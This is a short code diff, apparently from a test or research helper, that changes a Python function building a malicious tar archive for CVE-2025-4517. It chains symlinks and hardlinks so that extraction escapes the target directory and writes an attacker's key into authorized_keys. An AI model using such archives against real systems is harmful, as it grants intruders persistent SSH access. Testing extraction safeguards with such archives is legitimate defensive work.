@@ -59,7 +59,10 @@ def escape_of_cve_2025_4517(victim: Path) -> io.BytesIO:
         entries += [entry(os.path.join(path, deep), b"5"), entry(os.path.join(path, step), b"2", deep)]
         path = os.path.join(path, deep)
     link = os.path.join("/".join(steps), "l" * 254)
-    entries += [entry(link, b"2", "../" * len(steps)), entry("escape", b"2", link + "/.." * 6 + str(victim))]
+    entries += [
+        entry(link, b"2", "../" * len(steps)),
+        entry("escape", b"2", link + "/.." * len(victim.parts) + str(victim)),
+    ]
     entries += [entry("flag", b"1", "escape/authorized_keys"), entry("flag", data=b"key of the attacker\n")]
     return archive(*entries)
 
